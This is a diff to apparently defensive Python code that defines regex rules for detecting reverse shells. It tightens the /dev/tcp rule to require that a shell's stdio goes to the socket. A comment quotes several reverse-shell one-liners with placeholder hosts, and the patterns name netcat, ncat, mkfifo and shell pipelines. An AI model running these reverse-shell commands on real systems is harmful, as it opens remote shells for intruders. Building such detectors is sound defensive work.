@@ -12,6 +12,14 @@ from dataclasses import dataclass
 
 _SEP = r"(?:^|[\s/;|&(`'\"])"  # start of a command word
 _NC = _SEP + r"(?:nc|ncat|netcat)(?:\.\w+)?\s"
+_SHELLS = r"(?:ba|da|z|k|mk|c|tc|fi)?sh"
+_SHELL_ON_SOCKET = (
+    _SEP + _SHELLS + r"\b[^;&|]*\s-[a-z]*i"  # an interactive shell
+    + r"|>&\s*/dev/(?:tcp|udp)/"  # stdout and stderr to the socket
+    + r"|\b0?>&\s*1\b|\b0<&\s*\d|<&\s*\d+\s+>&\s*\d"  # stdin and stdout on one fd
+    + r"|\|\s*(?:/bin/|/usr/bin/)?" + _SHELLS + r"\b"  # piped into a shell
+    + r"|\|\s*while\s+read\b"  # lines from the socket run one by one
+)
 
 
 @dataclass(frozen=True)
@@ -28,7 +36,11 @@ def _rule(name: str, *patterns: str, flags: int = 0) -> Rule:
 
 
 REVERSE_SHELL_RULES: tuple[Rule, ...] = (
-    _rule("dev-tcp", r"/dev/(?:tcp|udp)/[^/\s]+/\d+"),
+    # A socket opened through bash's /dev/tcp is a reverse shell only when a shell's
+    # stdio goes to it: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p; sh <&3
+    # >&3`, `cat </dev/tcp/h/p | sh`. A bare connect (`exec 3<>/dev/tcp/h/p`, a probe
+    # reading a banner with `head <&3`) is not.
+    _rule("dev-tcp", r"/dev/(?:tcp|udp)/[^/\s]+/\d+", _SHELL_ON_SOCKET),
     _rule("netcat-exec", _NC + r"(?:[^|;&]*\s)?(?:-[a-zA-Z]*[ec](?:\s|$)|--(?:sh-|lua-)?exec\b)"),
     _rule("fifo-netcat", r"\bmkfifo\b", _SEP + r"(?:nc|ncat|netcat|telnet|openssl)\b",
           _SEP + r"(?:sh|bash|dash|zsh|ash)\b"),
